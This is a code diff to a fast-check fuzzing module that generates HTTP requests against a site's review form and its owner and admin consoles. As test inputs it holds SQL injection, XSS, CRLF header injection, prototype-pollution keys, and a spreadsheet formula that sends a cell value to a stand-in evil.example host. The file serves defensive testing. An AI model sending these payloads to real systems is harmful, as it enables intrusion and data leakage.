@@ -4,6 +4,7 @@
  * body, each mostly plausible and sometimes hostile. See docs/operations.md, "Fuzzing".
  */
 import fc from "fast-check";
+import { REVIEW_REPORT_KINDS, REVIEW_SORTS, STORED_KINDS } from "../../domain/reviews";
 import type { RawRequest } from "./raw-http";
 
 /** What the generators need to know about the running site to reach past the first check. */
@@ -17,7 +18,10 @@ export interface SiteFacts {
   sessionCookie: string;
   /** Cookies of a listing owner and an admin (the fixture accounts), to reach past the consoles' guards. */
   signedInCookies: string[];
-  /** Ids of the fixture promotion, invoice, lead and claim: the consoles' forms and query strings take them. */
+  /**
+   * Ids of the fixture promotion, invoice, lead, claim and review: the consoles' forms and query
+   * strings take them.
+   */
   recordIds: string[];
   /** Place photos already drawn (the first request of a demo photo draws it, which takes seconds). */
   warmImages: { placeId: string; index: number }[];
@@ -112,6 +116,9 @@ const numberText = fc.oneof(
   fc.constantFrom("NaN", "Infinity", "-0", "1e308", "-1e-400", "0x1F", "99999999999999999999999", "", " 5 ", "1,2"),
 );
 
+/** A review's stars and its four optional sub-ratings: 1 to 5, and what is not. */
+const STARS = fc.constantFrom("1", "3", "5", "0", "6", "-1", "4.5", "NaN", "1e309", "05", "0x5", " 4 ", "");
+
 /** Plausible values for the parameters the site reads, so that generated requests get past the first check. */
 const PLAUSIBLE: Record<string, fc.Arbitrary<string>> = {
   lat: fc.oneof(fc.double({ min: -95, max: 95, noNaN: true }).map(String), fc.constant("30.27")),
@@ -152,6 +159,21 @@ const PLAUSIBLE: Record<string, fc.Arbitrary<string>> = {
     "portal",
     "pay",
     "owner-assign",
+    // The review form, the facility page's review buttons, /owner/reviews and the queue's Reviews
+    // section (issue 34), and near misses of them.
+    "save",
+    "delete",
+    "helpful",
+    "report-review",
+    "owner-report",
+    "confirm-stay",
+    "review-approve",
+    "review-reject",
+    "review-remove",
+    "SAVE",
+    "save ",
+    "review-",
+    "__proto__",
   ),
   ids: fc.constantFrom("ChIJabc123def456,ChIJxyz789uvw012", "a,b,c,d,e", "only_one_id_here", ",,", "a<b,c", ""),
   rvLength: fc.constantFrom("40", "9", "101", "40.5", "forty", ""),
@@ -163,7 +185,14 @@ const PLAUSIBLE: Record<string, fc.Arbitrary<string>> = {
   cover: fc.constantFrom("covered", "any", "indoor", "bogus"),
   moveIn: fc.constantFrom("2026-12-01", "2026-02-30", "soon", ""),
   phone: fc.constantFrom("+1 512 555 0100", "555", "+1 512\r\n555", "=1+1", ""),
-  message: fc.constantFrom("Do you have a space?", "URGENT\r\nhttps://evil.example/login", '=HYPERLINK("x")', ""),
+  message: fc.constantFrom(
+    "Do you have a space?",
+    "URGENT\r\nhttps://evil.example/login",
+    '=HYPERLINK("x")',
+    "",
+    "nul\u0000here",
+    "x".repeat(1001),
+  ),
   back: fc.constantFrom(
     "/owner/leads",
     "/owner/leads\r\nSet-Cookie: x=1",
@@ -171,12 +200,94 @@ const PLAUSIBLE: Record<string, fc.Arbitrary<string>> = {
     "https://evil.example/",
     "",
   ),
-  status: fc.constantFrom("new", "contacted", "closed", "bogus"),
+  status: fc.constantFrom("new", "contacted", "closed", "held", "published", "rejected", "removed", "bogus"),
   tier: fc.constantFrom("Basic", "Pro", "Premium", "Free", "bogus"),
   interval: fc.constantFrom("month", "year", "week"),
   website: fc.constantFrom("https://example.com", "javascript:alert(1)", "data:text/html,x", "example.com"),
   parkingOptions: fc.constantFrom("Covered", '=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "@SUM(1+1)"),
   session_id: fc.constantFrom("cs_test_123", "", "x".repeat(300)),
+  // The review form (/location/{slug}/review), its limits and just past them: 1 to 5 stars, a
+  // one-line title up to 120 characters, a body of 20 to 2,000, a stay month of the last ten
+  // years, 8 to 65 feet; NUL and other control characters, which the form refuses.
+  stars: STARS,
+  security: STARS,
+  access: STARS,
+  value: STARS,
+  cleanliness: STARS,
+  title: fc.constantFrom(
+    "Dry and locked",
+    "",
+    "   ",
+    "t".repeat(120),
+    "t".repeat(121),
+    "two\nlines",
+    "nul\u0000title",
+    "bell\u0007",
+    "\u202Eevil",
+    "<script>alert(1)</script>",
+    '=HYPERLINK("https://evil.example")',
+  ),
+  body: fc.constantFrom(
+    "Stored our fifth wheel here all winter; the gate code worked every time.",
+    "Too short",
+    "b".repeat(2000),
+    "b".repeat(2001),
+    " ".repeat(30),
+    "Line one of the stay\r\nline two\rline three\n",
+    "A body with a NUL \u0000 in the middle of it",
+    "Call 512-555-0100 or see https://evil.example for a better deal",
+    "\u0000".repeat(25),
+  ),
+  stayMonth: fc.constantFrom(
+    "2026-01",
+    "2024-06",
+    "2026-13",
+    "2026-00",
+    "9999-01",
+    "0000-01",
+    "1999-12",
+    "2026-1",
+    "2026-01-15",
+    "-2026-01",
+    "__proto__",
+    "constructor",
+    "",
+  ),
+  storedKind: fc.constantFrom(...STORED_KINDS, "CLASS_A", "bogus", "__proto__", "toString", ""),
+  lengthFeet: fc.constantFrom("30", "8", "65", "7", "66", "30.5", "-30", "0", "NaN", "1e309", "0x1E", " 30 ", ""),
+  // The facility page's Helpful and Report buttons, /owner/reviews and the queue's decisions.
+  reviewId: fc.constantFrom(
+    "1",
+    "2",
+    "0",
+    "-1",
+    "1.5",
+    "1e309",
+    "-1e309",
+    "9007199254740991",
+    "9007199254740992",
+    "99999999999999999999999",
+    "1 OR 1=1",
+    "1; DROP TABLE reviews;--",
+    "0x1",
+    "NaN",
+    "",
+  ),
+  kind: fc.constantFrom(...REVIEW_REPORT_KINDS, "SPAM", "bogus", "__proto__", ""),
+  reason: fc.constantFrom(
+    "Names a competitor",
+    "",
+    "   ",
+    "r".repeat(1000),
+    "r".repeat(1001),
+    "two\r\nlines",
+    "nul\u0000reason",
+  ),
+  // The queue's sections (/admin/manage?section=) and the facility page's reviews (sort, page, notice).
+  section: fc.constantFrom("changes", "reports", "problems", "leads", "reviews", "REVIEWS", "__proto__", ""),
+  reviews: fc.constantFrom(...REVIEW_SORTS, "bogus", ""),
+  rpage: fc.constantFrom("1", "2", "0", "-1", "1.5", "1e309", "99999999999999999999", "x", ""),
+  review: fc.constantFrom("published", "held", "deleted", "error", "<b>x</b>", ""),
 };
 const KNOWN_KEYS = Object.keys(PLAUSIBLE);
 
@@ -186,7 +297,8 @@ function valueFor(key: string, site?: SiteFacts): fc.Arbitrary<{ text: string; l
   if (ids.length > 0 && (RECORD_FIELDS.includes(key) || key === "promotion"))
     return fc.oneof(
       { weight: 4, arbitrary: fc.constantFrom(...ids).map((text) => ({ text, long: false })) },
-      { weight: 1, arbitrary: valueFor("x") },
+      // The field's own values otherwise (a review id of "1e309"), or any text.
+      { weight: 1, arbitrary: valueFor(key) },
     );
   // Free text that reaches parsers (place names, coordinates, search text) gets long values more often.
   const longWeight = ["where", "q"].includes(key) ? 6 : 1;
@@ -242,6 +354,9 @@ const ROUTE_KEYS: Record<string, string[]> = {
   "/owner/checkout/success": ["promotion", "session_id"],
   "/owner/leads": ["back", "status"],
   "/admin/locations/export": ["format"],
+  "/location/:slug": ["reviews", "rpage", "review"],
+  "/owner/reviews": ["page", "page"],
+  "/admin/manage": ["section", "section", "page"],
 };
 
 const queryKey = (route: string) =>
@@ -443,7 +558,7 @@ interface BodyChoice {
 
 const FORM_FIELDS = ["email", "password", "name", "redirectTo", "remember", "intent"];
 /** The lead form's and the consoles' fields, sent when the request carries a signed-in cookie or names a facility. */
-const RECORD_FIELDS = ["promotionId", "leadId", "invoiceId", "claimId", "id"];
+const RECORD_FIELDS = ["promotionId", "leadId", "invoiceId", "claimId", "id", "reviewId"];
 const OTHER_FIELDS = [
   "rvType",
   "rvLengthFeet",
@@ -458,22 +573,78 @@ const OTHER_FIELDS = [
   "website",
   "parkingOptions",
 ];
+/** The review form's fields (/location/{slug}/review, issue 34). */
+const REVIEW_FIELDS = [
+  "stars",
+  "title",
+  "body",
+  "stayMonth",
+  "storedKind",
+  "lengthFeet",
+  "security",
+  "access",
+  "value",
+  "cleanliness",
+];
+/**
+ * The forms of the routes whose action tells several apart by `intent`: its intents and the
+ * fields it reads, drawn in half the fields of a form posted there (any other field may come too).
+ */
+const ROUTE_FORMS: Record<string, { intents: string[]; fields: string[] }> = {
+  "/location/:slug/review": { intents: ["save", "delete"], fields: ["intent", "intent", ...REVIEW_FIELDS] },
+  "/location/:slug": {
+    intents: ["helpful", "report-review", "lead"],
+    fields: ["intent", "intent", "reviewId", "reviewId", "kind", "message"],
+  },
+  "/owner/reviews": {
+    intents: ["reply", "owner-report", "confirm-stay"],
+    fields: ["intent", "intent", "reviewId", "reviewId", "body", "kind", "message"],
+  },
+  "/admin/manage": {
+    intents: [
+      "review-approve",
+      "review-reject",
+      "review-remove",
+      "resolve",
+      "dismiss",
+      "hide-duplicate",
+      "lead-handled",
+      "approve",
+      "reject",
+    ],
+    fields: ["intent", "intent", "reviewId", "reviewId", "status", "reason"],
+  },
+};
 
-const formBody = (site: SiteFacts): fc.Arbitrary<BodyChoice> =>
-  fc
+/** A form for `route`: its own fields and intents mostly when ROUTE_FORMS lists it. */
+const formBody = (site: SiteFacts, route = ""): fc.Arbitrary<BodyChoice> => {
+  const own = ROUTE_FORMS[route];
+  const value = (key: string) =>
+    key === "intent" && own
+      ? fc.oneof(
+          { weight: 4, arbitrary: fc.constantFrom(...own.intents).map((text) => ({ text, long: false })) },
+          { weight: 1, arbitrary: valueFor(key, site) },
+        )
+      : valueFor(key, site);
+  return fc
     .array(
       fc
         .oneof(
+          { weight: own ? 6 : 0, arbitrary: fc.constantFrom(...(own?.fields ?? ["x"])) },
           { weight: 3, arbitrary: fc.constantFrom(...FORM_FIELDS, "x") },
           { weight: 3, arbitrary: fc.constantFrom(...OTHER_FIELDS, ...RECORD_FIELDS) },
         )
-        .chain((key) => fc.tuple(fc.constant(key), encodedValue(valueFor(key, site)))),
+        .chain((key) =>
+          // A name sent two or three times is an array to the server (`getAll`), one value to `get`.
+          fc.tuple(fc.constant(key), encodedValue(value(key)), fc.constantFrom(1, 1, 1, 1, 2, 3)),
+        ),
       { maxLength: 8 },
     )
     .map((pairs) => ({
-      body: Buffer.from(pairs.map(([k, v]) => `${k}=${v.text}`).join("&")),
+      body: Buffer.from(pairs.flatMap(([k, v, times]) => Array<string>(times).fill(`${k}=${v.text}`)).join("&")),
       contentType: "application/x-www-form-urlencoded",
     }));
+};
 
 const analyticsEvent = fc.record(
   {
@@ -525,10 +696,10 @@ const multipartBody: fc.Arbitrary<BodyChoice> = fc
     };
   });
 
-const bodyChoice = (site: SiteFacts): fc.Arbitrary<BodyChoice> =>
+const bodyChoice = (site: SiteFacts, route: string): fc.Arbitrary<BodyChoice> =>
   fc.oneof(
     { weight: 6, arbitrary: fc.constant({ body: Buffer.alloc(0), contentType: null }) },
-    { weight: 3, arbitrary: formBody(site) },
+    { weight: 3, arbitrary: formBody(site, route) },
     { weight: 3, arbitrary: jsonBody },
     { weight: 1, arbitrary: multipartBody },
     {
@@ -760,56 +931,66 @@ export function routeTemplates(routes: readonly { path?: string; index?: boolean
 export function plausibleRequestArbitrary(templates: string[], site: SiteFacts): fc.Arbitrary<FuzzInput> {
   const cookies = [site.sessionCookie, ...site.signedInCookies, ...site.signedInCookies];
   const consoles = templates.filter((t) => t.startsWith("/owner") || t.startsWith("/admin"));
+  const forms = templates.filter((t) => ROUTE_FORMS[t]);
   return fc
     .record({
       route: fc.oneof(
         // The consoles' routes most: they are the ones only a signed-in session reaches.
         { weight: 3, arbitrary: fc.constantFrom(...(consoles.length > 0 ? consoles : templates)) },
+        // Then the routes whose forms ROUTE_FORMS lists (the review form is outside the consoles).
+        { weight: forms.length > 0 ? 1 : 0, arbitrary: fc.constantFrom(...(forms.length > 0 ? forms : templates)) },
         { weight: 1, arbitrary: fc.constantFrom(...templates) },
       ),
       post: fc.boolean(),
       cookie: fc.constantFrom(...cookies),
-      form: formBody(site),
     })
-    .chain(({ route, post, cookie, form }) =>
-      fc.tuple(pathFor(route, site), queryString(route, site)).map(([path, query]): FuzzInput => {
-        const body = post ? form.body : Buffer.alloc(0);
-        const headers: Header[] = [
-          ["Host", site.host],
-          ["Origin", `http://${site.host}`],
-          ["User-Agent", HUMAN_AGENT],
-          ["Cookie", cookie],
-        ];
-        if (post) headers.push(["Content-Type", form.contentType ?? "application/x-www-form-urlencoded"]);
-        if (post) headers.push(["Content-Length", String(body.length)]);
-        headers.push(["Connection", "close"]);
-        return {
-          request: {
-            method: post ? "POST" : "GET",
-            target: `${path.text}${query.text}`,
-            version: "HTTP/1.1",
-            headers,
-            body,
-          },
-          route,
-          bodyShort: false,
-          long: path.long || query.long,
-        };
-      }),
+    .chain(({ route, post, cookie }) =>
+      fc
+        .tuple(pathFor(route, site), queryString(route, site), formBody(site, route))
+        .map(([path, query, form]): FuzzInput => {
+          const body = post ? form.body : Buffer.alloc(0);
+          const headers: Header[] = [
+            ["Host", site.host],
+            ["Origin", `http://${site.host}`],
+            ["User-Agent", HUMAN_AGENT],
+            ["Cookie", cookie],
+          ];
+          if (post) headers.push(["Content-Type", form.contentType ?? "application/x-www-form-urlencoded"]);
+          if (post) headers.push(["Content-Length", String(body.length)]);
+          headers.push(["Connection", "close"]);
+          return {
+            request: {
+              method: post ? "POST" : "GET",
+              target: `${path.text}${query.text}`,
+              version: "HTTP/1.1",
+              headers,
+              body,
+            },
+            route,
+            bodyShort: false,
+            long: path.long || query.long,
+          };
+        }),
     );
 }
 
 /** A whole request to one of `templates`. */
 export function requestArbitrary(templates: string[], site: SiteFacts): fc.Arbitrary<FuzzInput> {
   const target = fc
-    // Routes that parse free text are drawn more often than the placeholders.
-    .oneof(...templates.map((template) => ({ weight: ROUTE_KEYS[template] ? 4 : 1, arbitrary: fc.constant(template) })))
+    // Routes that parse free text or forms are drawn more often than the placeholders.
+    .oneof(
+      ...templates.map((template) => ({
+        weight: ROUTE_KEYS[template] || ROUTE_FORMS[template] ? 4 : 1,
+        arbitrary: fc.constant(template),
+      })),
+    )
     .chain((route) =>
       fc.tuple(
         fc.constant(route),
         pathFor(route, site),
         queryString(route, site),
         fc.constantFrom("origin", "origin", "origin", "origin", "absolute", "foreign", "fragment"),
+        bodyChoice(site, route),
       ),
     );
   return fc
@@ -824,7 +1005,6 @@ export function requestArbitrary(templates: string[], site: SiteFacts): fc.Arbit
         { weight: 1, arbitrary: fc.constant("HTTP/1.0" as const) },
       ),
       headers: otherHeaders(site),
-      body: bodyChoice(site),
       contentType: fc.oneof(
         { weight: 6, arbitrary: fc.constant("match") },
         { weight: 1, arbitrary: fc.constantFrom(...CONTENT_TYPES) },
@@ -833,7 +1013,7 @@ export function requestArbitrary(templates: string[], site: SiteFacts): fc.Arbit
       framing,
       badLength: fc.constantFrom("abc", "-1", "1e3", " 5", "99999999999999999999", "0x10", ""),
     })
-    .map(({ target: [route, path, query, form], method, version, headers, body, contentType, framing, badLength }) => {
+    .map(({ target: [route, path, query, form, body], method, version, headers, contentType, framing, badLength }) => {
       const pathAndQuery = `${path.text}${query.text}`;
       const requestTarget =
         form === "absolute"
